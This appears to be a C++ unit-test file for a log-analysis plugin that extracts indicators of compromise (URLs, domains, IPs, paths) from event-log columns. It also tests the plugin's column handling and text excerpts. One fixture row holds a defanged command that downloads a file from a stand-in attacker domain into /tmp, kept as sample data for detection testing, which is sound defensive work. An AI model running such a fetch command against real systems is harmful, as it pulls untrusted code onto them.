// SPDX-License-Identifier: Apache-2.0
#include <spoor/testing/testing.hpp>

#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "excerpt.hpp"

namespace {

using spoor::json;
using spoor::testing::plugin_test;
using spoor::testing::run_result;
using spoor::testing::table;

table events() {
  return table::of(
      "time:timestamp@@timestamp Computer:utf8@host.name CommandLine:utf8 Image:utf8 pid:int64",
      {{"2024-03-01T10:00:00Z", "web-1", "curl hxxp://evil[.]example.com/a -o /tmp/x",
        "/usr/bin/curl", 1},
       {"2024-03-01T10:00:05Z", "web-2", "ping 203.0.113.9 203.0.113.9", nullptr, 2},
       {"2024-03-01T10:00:07Z", "web-3", nullptr, "setup.py", 3}});
}

run_result run(const std::string& with, const table& rows) {
  plugin_test test("analyzer.ioc-extract");
  test.with(with).input("events", rows);
  return test.run();
}

std::vector<std::string> column_names(const table& rows) {
  std::vector<std::string> out;
  for (size_t i = 0; i < rows.columns(); ++i)
    out.emplace_back(rows.schema()[i].name());
  return out;
}

TEST(IocExtract, OneRowPerDistinctIndicatorOfACell) {
  const run_result result = run(R"({"columns": ["CommandLine"], "excerpt": 0})", events());
  ASSERT_TRUE(result.ok()) << result.error();
  const table expected = table::of(
      "observable:utf8~observable type:utf8 column:utf8 start:int64 length:int64 defanged:bool "
      "time:timestamp@@timestamp Computer:utf8@host.name",
      {{"http://evil.example.com/a", "url", "CommandLine", 5, 27, true, "2024-03-01T10:00:00Z",
        "web-1"},
       {"evil.example.com", "domain", "CommandLine", 12, 18, true, "2024-03-01T10:00:00Z", "web-1"},
       {"203.0.113.9", "ipv4", "CommandLine", 5, 11, false, "2024-03-01T10:00:05Z", "web-2"}});
  EXPECT_EQ(result.output(), expected);
}

TEST(IocExtract, TheObservableColumnNamesItsTypeColumnAndTheSuffixList) {
  const run_result result = run("{}", events());
  ASSERT_TRUE(result.ok()) << result.error();
  const auto field = result.output().schema()["observable"];
  EXPECT_EQ(field.value_type(), "observable");
  EXPECT_EQ(field.metadata("spoor.type_column"), "type");
  EXPECT_FALSE(field.metadata("spoor.suffix_list").empty());
}

TEST(IocExtract, ReadsEveryTextColumnUnlessSomeAreNamed) {
  const run_result all = run(R"({"types": ["path.posix"]})", events());
  ASSERT_TRUE(all.ok()) << all.error();
  EXPECT_EQ(all.output().rows(), 2);  // /tmp/x in CommandLine, /usr/bin/curl in Image
  const run_result one = run(R"({"types": ["linux_path"], "columns": ["Image"]})", events());
  ASSERT_TRUE(one.ok()) << one.error();
  EXPECT_EQ(one.output().rows(), 1);
}

TEST(IocExtract, KeepsTheColumnsAskedForAndRenamesWhatClashes) {
  const table rows = table::of("type:utf8 text:utf8 pid:int64", {{"dns", "see 198.51.100.7", 7}});
  const run_result result =
      run(R"({"columns": ["text"], "keep": ["pid", "type"], "excerpt": 0})", rows);
  ASSERT_TRUE(result.ok()) << result.error();
  const std::vector<std::string> expected = {"observable", "type",     "column", "start",
                                             "length",     "defanged", "pid",    "event.type"};
  EXPECT_EQ(column_names(result.output()), expected);
  const run_result none = run(R"({"keep": []})", events());
  ASSERT_TRUE(none.ok()) << none.error();
  EXPECT_EQ(none.output().columns(), 7u);
}

TEST(IocExtract, MissingColumnsAreNamedWithTheCandidates) {
  const run_result result = run(R"({"columns": ["command_line"]})", events());
  EXPECT_FALSE(result.ok());
  EXPECT_EQ(result.status(), SPOOR_INVALID_ARGUMENT);
  EXPECT_EQ(result.error(),
            "the input has no column 'command_line'; did you mean 'CommandLine'? (text columns: "
            "'Computer', 'CommandLine', 'Image')");
  const run_result number = run(R"({"columns": ["pid"]})", events());
  EXPECT_EQ(
      number.error(),
      "column 'pid' holds int64, not text (text columns: 'Computer', 'CommandLine', 'Image')");
  EXPECT_FALSE(run(R"({"keep": ["nope"]})", events()).ok());
}

TEST(IocExtract, ColumnsOfVersionsHoldNoAddresses) {
  const table rows = table::of("FileVersion:utf8 text:utf8", {{"5.2.160.0", "5.2.160.0"}});
  const run_result result = run("{}", rows);
  ASSERT_TRUE(result.ok()) << result.error();
  EXPECT_EQ(result.output().rows(), 1);
}

TEST(IocExtract, ReportsWhatALimitLeftOut) {
  const table rows = table::of("text:utf8", {{"1.1.1.1 2.2.2.2 3.3.3.3 4.4.4.4"}});
  const run_result result = run(R"({"max_hits": 1})", rows);
  ASSERT_TRUE(result.ok()) << result.error();
  EXPECT_EQ(result.output().rows(), 1);
  EXPECT_EQ(result.diagnostic("too_many_hits").count, 3u);
}

TEST(IocExtract, ATableWithoutTextIsADiagnostic) {
  const run_result result = run("{}", table::of("pid:int64", {{1}}));
  ASSERT_TRUE(result.ok()) << result.error();
  EXPECT_EQ(result.output().rows(), 0);
  EXPECT_EQ(result.diagnostic("no_text_columns").count, 1u);
}

TEST(IocExtract, TakesItsOwnSuffixList) {
  plugin_test test("analyzer.ioc-extract");
  test.with(R"({"suffix_list": "suffixes.dat", "excerpt": 0})")
      .file("suffixes.dat",
            "// VERSION: 2026-01-01\n// ===BEGIN ICANN DOMAINS===\nspoor\n// ===END ICANN "
            "DOMAINS===\n")
      .input("events", table::of("text:utf8", {{"a.spoor b.com"}}));
  const run_result result = test.run();
  ASSERT_TRUE(result.ok()) << result.error();
  EXPECT_EQ(result.output().rows(), 1);
  EXPECT_EQ(result.output().schema()["observable"].metadata("spoor.suffix_list"), "2026-01-01");
}

TEST(IocExtract, WhereBatchesBeginDoesNotMatter) {
  std::vector<json::array> cells;
  for (int i = 0; i < 3000; ++i) {
    cells.push_back({"row " + std::to_string(i) + " from 10.0." + std::to_string(i / 256) + "." +
                     std::to_string(i % 256) + " to host" + std::to_string(i) + ".example.org"});
  }
  const table rows = table::from_rows("text:utf8", cells);
  const run_result whole = run("{}", rows);
  plugin_test cut("analyzer.ioc-extract");
  cut.with("{}").input("events", rows).batch_rows(7).sliced();
  const run_result pieces = cut.run();
  ASSERT_TRUE(whole.ok()) << whole.error();
  ASSERT_TRUE(pieces.ok()) << pieces.error();
  EXPECT_EQ(whole.output().rows(), 6000);
  EXPECT_EQ(whole.output(), pieces.output());
}

TEST(Excerpt, ShowsTheWordsAroundAHit) {
  std::string out;
  spoor_ioc::excerpt("0123456789", 4, 2, 6, out);
  EXPECT_EQ(out,
            "\xe2\x80\xa6"
            "234567\xe2\x80\xa6");
  spoor_ioc::excerpt("0123456789", 8, 2, 6, out);
  EXPECT_EQ(out,
            "\xe2\x80\xa6"
            "456789");
  spoor_ioc::excerpt("0123456789", 0, 10, 4, out);
  EXPECT_EQ(out, "0123\xe2\x80\xa6");
  spoor_ioc::excerpt("ab", 0, 2, 80, out);
  EXPECT_EQ(out, "ab");
}

TEST(Excerpt, IsOneLineOfValidText) {
  std::string out;
  spoor_ioc::excerpt(
      "a\nb\tc\x01"
      "d\xff"
      "e",
      0, 1, 80, out);
  EXPECT_EQ(out,
            "a b c d\xef\xbf\xbd"
            "e");
  spoor_ioc::excerpt(
      "\xc3\xa4\xc3\xb6\xc3\xbc"
      "x",
      6, 1, 4, out);  // cuts no letter in half
  EXPECT_EQ(out,
            "\xe2\x80\xa6\xc3\xbc"
            "x");
}

}  // namespace
